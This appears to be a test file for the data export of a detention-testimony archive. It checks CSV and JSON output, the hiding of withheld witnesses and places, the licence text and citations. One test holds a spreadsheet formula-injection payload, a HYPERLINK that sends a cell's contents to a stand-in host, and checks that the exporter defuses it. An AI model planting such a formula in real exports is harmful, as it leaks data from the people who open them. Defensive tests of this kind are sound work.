import { describe, expect, it } from 'vitest';
import { dataFileNames } from '../../src/core/export/files.ts';
import { buildDataExport, type DataExport } from '../../src/core/export/index.ts';
import { quoteAnchor } from '../../src/core/quotes.ts';
import { interviewTitle } from './core-fixture.ts';
import { csvRecords, parseCsv } from './csv-reader.ts';
import { fixtureArchive } from './test-utils.ts';

/** The data export as people reuse it: who was held where, the licence, the addresses, the citations, a spreadsheet. */

const filesOf = ({ pieces }: DataExport) => Object.fromEntries(dataFileNames.map((name) => [name, [...pieces(name)].join('')]));
const files = filesOf(buildDataExport(fixtureArchive('core-archive')));

const aidarbekHeld = {
	personId: 'aidarbek-testov',
	personName: 'Aidarbek Testov',
	personPermalink: 'https://archive.test/people/aidarbek-testov/',
	campId: 'mockville-camp-no-1',
	campName: 'Mockville Camp No. 1',
	campKind: 'Re-education camp',
	campPermalink: 'https://archive.test/camps/mockville-camp-no-1/',
	locationId: 'mockville',
	locationName: 'Mockville',
	regionId: 'north-testovia',
	regionName: 'North Testovia',
	countryId: 'fictistan',
	countryName: 'Fictistan',
	// The quote gives neither date: both say how the archive dated them.
	start: '2018-03-05 (inferred; basis: the interview says he was taken from his home on 5 March 2018)',
	end: '2018-11 (inferred; basis: his sister writes that he came home in November 2018)',
	duration: 'eight months',
	durationReading: '',
	sourceId: 'herald-interview',
	sourceTitle: interviewTitle,
	sourcePermalink: `https://archive.test/sources/herald-interview/#${quoteAnchor('I was there for eight months.')}`,
};
const mirzaHeld = {
	personId: 'mirza-mockov',
	personName: 'Mirza Mockov',
	personPermalink: 'https://archive.test/people/mirza-mockov/',
	campId: '7th-street-detention-centre',
	campName: '7th Street Detention Centre',
	campKind: 'Detention centre',
	campPermalink: 'https://archive.test/camps/7th-street-detention-centre/',
	locationId: 'mockville',
	locationName: 'Mockville',
	regionId: 'north-testovia',
	regionName: 'North Testovia',
	countryId: 'fictistan',
	countryName: 'Fictistan',
	start: 'early 2018',
	end: '2018-06 (inferred; basis: the report says he was released in June 2018)',
	duration: '',
	durationReading: '',
	sourceId: 'testwatch-report',
	sourceTitle: 'The camps of North Testovia',
	sourcePermalink: `https://archive.test/sources/testwatch-report/#${quoteAnchor('Mirza Mockov was held at the 7th Street Detention Centre in early 2018.')}`,
};

describe('detentions.csv: who was held where', () => {
	it('has a row for every recorded detention, with the names and ids of the person and the place, where it is, when, and the source', () => {
		expect(csvRecords(files['detentions.csv'])).toEqual([aidarbekHeld, mirzaHeld]);
	});

	it('is in archive.json too, empty values left out', () => {
		const { detentions } = JSON.parse(files['archive.json']) as { detentions: object[] };
		const { durationReading: _a, ...aidarbek } = aidarbekHeld;
		const { duration: _, durationReading: _m, ...mirzaWithoutDuration } = mirzaHeld;
		expect(detentions).toEqual([aidarbek, mirzaWithoutDuration]);
	});

	it('gives a place whose location is withheld no location, and a withheld person only the public name', () => {
		const withheld = filesOf(
			buildDataExport(
				fixtureArchive('withheld', {
					edit: (records) =>
						records.map((r) =>
							r.collection === 'people' && r.id === 'witness-a' ? { ...r, data: { ...r.data, detentions: [{ camp: { collection: 'camps', id: 'school-camp' }, source: { collection: 'sources', id: 'village-teacher' } }] } } : r,
						),
				}),
			),
		);
		const [row] = csvRecords(withheld['detentions.csv']);
		expect(row).toMatchObject({ personId: 'witness-a', personName: 'Witness A', campId: 'school-camp', locationId: '', locationName: '', regionName: '', countryName: '' });
		expect(withheld['detentions.csv']).not.toMatch(/Secretname|Hidden Lane|Secretvillage/);
	});

	it('is described column by column in README.txt', () => {
		const readme = files['README.txt'];
		const part = readme.slice(readme.indexOf('detentions.csv\n--------------\n'));
		for (const column of parseCsv(files['detentions.csv'])[0]) expect(part, column).toContain(`\n  ${column}\n`);
	});
});

describe('the licence', () => {
	it('is stated in README.txt: what it covers, how to credit, and that quotes remain their publishers’ words', () => {
		const readme = files['README.txt'];
		expect(readme).toContain('Licence\n-------\n');
		expect(readme).toContain('are published under the Creative Commons Attribution 4.0 International licence (CC-BY-4.0). https://creativecommons.org/licenses/by/4.0/legalcode');
		expect(readme).toContain('Credit Xinjiang Detention Testimony Archive, with the address of the record or file you use.');
		expect(readme).toContain('Quoted passages and the texts of sources remain the words of their authors and publishers');
	});
});

describe('a build that was not told the site’s address', () => {
	const unaddressed = filesOf(buildDataExport(fixtureArchive('core-archive', { site: null, base: '/archive/' })));

	it('gives every address from the site’s root, and no domain at all', () => {
		for (const [name, text] of Object.entries(unaddressed)) expect(text, name).not.toContain('archive.test');
		const json = JSON.parse(unaddressed['archive.json']) as { site: string | null; records: Record<string, { permalink: string }[]> };
		expect(json.site).toBeNull();
		expect(Object.values(json.records).flat().map((r) => r.permalink)).toContain('/archive/people/aidarbek-testov/');
		expect(Object.values(json.records).flat().every((r) => r.permalink.startsWith('/archive/'))).toBe(true);
		expect(csvRecords(unaddressed['detentions.csv'])[0]).toMatchObject({ personPermalink: '/archive/people/aidarbek-testov/', campPermalink: '/archive/camps/mockville-camp-no-1/' });
		expect(csvRecords(unaddressed['quotes.csv'])[0].recordPermalink).toMatch(/^\/archive\//);
		expect((JSON.parse(unaddressed['citations.json']) as Record<string, { URL: string }>)['people/aidarbek-testov'].URL).toBe('/archive/people/aidarbek-testov/');
	});

	it('says so in README.txt', () => {
		expect(unaddressed['README.txt']).toContain('This copy of the archive was built without being told its own address (SITE_URL), so every address in these files is a path from the site\'s root');
		expect(files['README.txt']).toContain('The whole archive published at https://archive.test/, as files');
	});
});

describe('citations.json', () => {
	it('gives each record one CSL-JSON item, the one its own citation file holds', () => {
		const citations = JSON.parse(files['citations.json']) as Record<string, { id: string; type: string }>;
		expect(Object.keys(citations)).toHaveLength(18);
		expect(citations['testimonies/testov-mockville-camp']).toMatchObject({ id: 'testimonies/testov-mockville-camp', type: 'webpage', URL: 'https://archive.test/testimonies/testov-mockville-camp/' });
		for (const item of Object.values(citations)) expect(Array.isArray(item)).toBe(false);
	});
});

describe('the CSV files in a spreadsheet', () => {
	const formula = '=HYPERLINK("https://x.test/?"&A1,"Click")';
	const edited = filesOf(buildDataExport(fixtureArchive('core-archive', { edit: (records) => records.map((r) => (r.id === 'mockville' ? { ...r, body: formula } : r)) })));

	it('writes a summary that a spreadsheet would run as a formula with an apostrophe in front, and archive.json exactly', () => {
		expect(csvRecords(edited['places.csv']).find((r) => r.id === 'mockville')!.summary).toBe(`'${formula}`);
		const json = JSON.parse(edited['archive.json']) as { records: { places: { id: string; summary: string }[] } };
		expect(json.records.places.find((r) => r.id === 'mockville')!.summary).toBe(formula);
	});

	it('begins every CSV file with a byte-order mark, and no other file', () => {
		for (const name of dataFileNames) expect(files[name].startsWith('\uFEFF'), name).toBe(name.endsWith('.csv'));
	});
});
